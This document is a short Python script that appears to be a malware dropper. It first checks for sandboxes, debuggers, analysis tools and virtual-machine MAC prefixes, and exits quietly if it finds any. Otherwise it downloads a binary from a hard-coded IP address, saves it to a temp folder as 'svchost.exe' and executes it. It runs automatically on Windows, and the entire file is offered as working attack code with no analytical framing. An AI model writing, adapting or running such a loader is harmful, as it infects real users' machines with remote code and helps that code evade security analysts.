import os, sys, uuid, tempfile, subprocess
import psutil, requests

BAD_NAMES = ['WDAGUtilityAccount', 'sandbox', 'JOHN-PC', 'malware', 'virus', 'Cuckoo']
BAD_PROCS = ['wireshark.exe', 'procmon.exe', 'x64dbg.exe', 'ida64.exe', 'vboxservice.exe', 'vmtoolsd.exe', 'fiddler.exe']
BAD_MACS = ['00:05:69', '00:0c:29', '08:00:27', '00:1c:42', '00:50:56']

def watched():
    if os.getenv('USERNAME') in BAD_NAMES: return True
    if psutil.cpu_count() < 3 or psutil.virtual_memory().total < 4 << 30: return True
    for p in psutil.process_iter(['name']):
        if (p.info['name'] or '').lower() in BAD_PROCS: return True
    mac = ':'.join('%02x' % ((uuid.getnode() >> s) & 255) for s in range(40, -1, -8))
    return mac[:8] in BAD_MACS

def go():
    if watched(): sys.exit(0)
    p = os.path.join(tempfile.mkdtemp(), 'svchost.exe')
    open(p, 'wb').write(requests.get('http://198.51.100.90/b.bin').content)
    subprocess.Popen(p, shell=True)

if os.name == 'nt':
    go()
